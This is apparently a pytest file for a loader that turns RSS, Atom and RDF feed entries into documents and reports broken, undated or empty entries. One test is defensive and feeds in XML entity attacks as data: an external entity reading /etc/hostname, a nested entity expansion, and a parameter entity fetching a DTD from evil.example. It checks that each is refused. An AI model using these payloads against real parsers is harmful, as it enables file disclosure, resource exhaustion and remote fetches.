"""loaders/feed.py: entries as documents, in every kind of feed, and feeds that are broken or mean harm."""

from __future__ import annotations

from pathlib import Path

import pytest
from loading_by_hand import documents, loaded, refused

from kg.model import Refusal

RSS = """<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet type="text/xsl" href="feed.xsl"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"
  xmlns:media="http://search.yahoo.com/mrss/">
<channel><title>Courier Online</title><link>https://courier.example/</link>
<item><title>Hackers &amp;amp; their names</title><link>https://courier.example/a</link><media:title>A picture</media:title>
<pubDate>Wed, 07 May 2025 23:00:00 -0500</pubDate><dc:creator>Ann Lee</dc:creator><description>A teaser.</description>
<content:encoded>
<![CDATA[<p>Tin Heron hit <b>Northgate</b> Foods.</p><script>x()</script><p>Nobody knows how.</p>]]></content:encoded>
</item>
<item><title>Only a headline</title><guid>https://courier.example/b</guid><pubDate>yesterday</pubDate></item>
<item><guid isPermaLink="false">x</guid></item>
</channel></rss>
"""
ATOM = """<feed xmlns="http://www.w3.org/2005/Atom"><title>Wire</title>
<entry><title type="html">A &lt;i&gt;break-in&lt;/i&gt;</title><link rel="self" href="https://wire.example/self"/>
<link href="https://wire.example/1"/><updated>2025-05-09T10:00:00Z</updated><published>2025-05-08T10:00:00Z</published>
<author><name>Bo</name><email>bo@wire.example</email></author>
<content type="xhtml">
<div xmlns="http://www.w3.org/1999/xhtml"><p>Tin Heron hit <em>Northgate</em> Foods.</p></div></content>
</entry></feed>
"""
RDF = """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
 xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Old Wire</title></channel>
<item><title>A break-in</title><link>https://old.example/1</link><dc:date>2025-05-08</dc:date>
<description>Tin Heron hit Northgate Foods.</description></item></rdf:RDF>
"""


def test_each_entry_is_a_document(tmp_path: Path) -> None:
    things = loaded(tmp_path, RSS, "feed.txt")
    first, second = documents(things)
    assert first.text == "Hackers & their names\n\nTin Heron hit Northgate Foods.\n\nNobody knows how."
    said = (first.title, first.author, first.publisher, first.published, first.address, first.record)
    assert said[:3] == ("Hackers & their names", "Ann Lee", "Courier Online")
    assert said[3:] == ("2025-05-07", "https://courier.example/a", "feed.txt:6")
    assert (second.text, second.address, second.published) == ("Only a headline", "https://courier.example/b", None)
    assert first.raw == second.raw is not None
    why = [(t.place.rsplit("/", 1)[-1], t.why) for t in things if isinstance(t, Refusal)]
    assert why == [
        ("feed.txt:11", "'yesterday' is no date; the entry is loaded undated"),
        ("feed.txt:12", "an entry without text"),
    ]


def test_atom_and_rdf(tmp_path: Path) -> None:
    (atom,), (rdf,) = documents(loaded(tmp_path, ATOM)), documents(loaded(tmp_path, RDF))
    assert (atom.text, atom.author, atom.published) == ("A break-in\n\nTin Heron hit Northgate Foods.", "Bo", "2025-05-08")
    assert (atom.publisher, atom.address) == ("Wire", "https://wire.example/1")
    assert (rdf.text, rdf.publisher, rdf.published) == (
        "A break-in\n\nTin Heron hit Northgate Foods.",
        "Old Wire",
        "2025-05-08",
    )


def test_of_a_feed_that_breaks_off_what_came_before_is_loaded(tmp_path: Path) -> None:
    things = loaded(tmp_path, RSS[: RSS.index("yesterday")], "feed.xml")
    assert [d.title for d in documents(things)] == ["Hackers & their names"]
    assert isinstance(things[-1], Refusal)
    assert "the feed is broken" in things[-1].why
    assert things[-1].place.endswith("feed.xml:11")


@pytest.mark.parametrize(
    "declared",
    [
        '<!ENTITY x SYSTEM "file:///etc/hostname">',
        '<!ENTITY a "ha"><!ENTITY x "&a;&a;&a;&a;">',
        '<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;',
    ],
)
def test_entities_are_not_expanded(tmp_path: Path, declared: str) -> None:
    body = RSS.partition("?>\n<rss")[2].replace("A teaser.", "&x;").replace("<![CDATA[", "&x;<![CDATA[")
    assert "declares entities of its own" in refused(
        loaded(tmp_path, f"<!DOCTYPE rss [{declared}]>\n<rss{body}", "evil.xml")
    )


def test_a_doctype_that_declares_nothing_is_passed_over(tmp_path: Path) -> None:
    doctype = '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://netscape.example/rss-0.91.dtd">\n'
    assert len(documents(loaded(tmp_path, doctype + RSS.partition("?>\n")[2].partition("?>\n")[2]))) == 2


def test_an_entry_that_comes_out_empty_is_told_of(tmp_path: Path) -> None:
    items = "<item><title>&lt;b&gt;&lt;/b&gt;</title><description>&lt;p&gt;&lt;/p&gt;</description></item>"
    assert "an entry without text" in refused(loaded(tmp_path, f"<rss><channel>{items}</channel></rss>"))


def test_a_feed_without_entries_is_told_of(tmp_path: Path) -> None:
    assert "no entries" in refused(loaded(tmp_path, "<rss><channel><title>x</title></channel></rss>"))
